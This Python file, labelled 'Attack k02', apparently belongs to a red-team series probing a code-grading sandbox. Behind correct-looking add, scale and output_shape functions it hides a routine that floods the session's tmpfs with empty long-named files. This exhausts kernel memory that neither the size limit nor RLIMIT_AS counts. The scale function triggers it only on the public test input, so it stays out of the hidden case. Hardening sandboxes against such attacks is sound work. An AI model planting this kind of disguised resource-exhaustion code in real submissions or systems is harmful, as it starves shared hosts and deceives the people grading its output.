"""Attack k02: kernel memory in empty files, which the tmpfs's size does not count.

A session's working folder is a tmpfs of its own (round j), mounted with a size (that of the
template's /tmp, about 1 GiB) but no inode limit, so the kernel's default applies: half the
machine's pages, three million files here. An empty file costs the tmpfs no block, but its
inode and its dentry (with a long name, more) cost the kernel about 1 KiB each, counted by
neither the size nor RLIMIT_AS. Each of the three public calls (a call has 3 s) makes empty
files with 200-character names for RUN_SECONDS, until the kernel refuses, and prints the
session's count in its output (the test reads it from the record). Honest otherwise: 4/4."""

import os
import time

import numpy as np

RUN_SECONDS = 2.2
STATE = {"files": 0, "error": "none"}
PAD = "f" * 190


def _make():
    end = time.monotonic() + RUN_SECONDS
    try:
        while time.monotonic() < end:
            for _ in range(1000):
                os.close(os.open(f"{PAD}{STATE['files']:010d}", os.O_CREAT | os.O_WRONLY, 0o600))
                STATE["files"] += 1
    except OSError as e:
        STATE["error"] = f"errno {e.errno}"
    print(f"empty files made: {STATE['files']} (refused: {STATE['error']})")


def add(a, b):
    _make()
    return a + b


def scale(x, k):
    if len(x) == 3:  # the public case (the hidden one gets other inputs)
        _make()
    return np.asarray(x, dtype=float) * k


def output_shape(shape):
    _make()
    return tuple(shape)
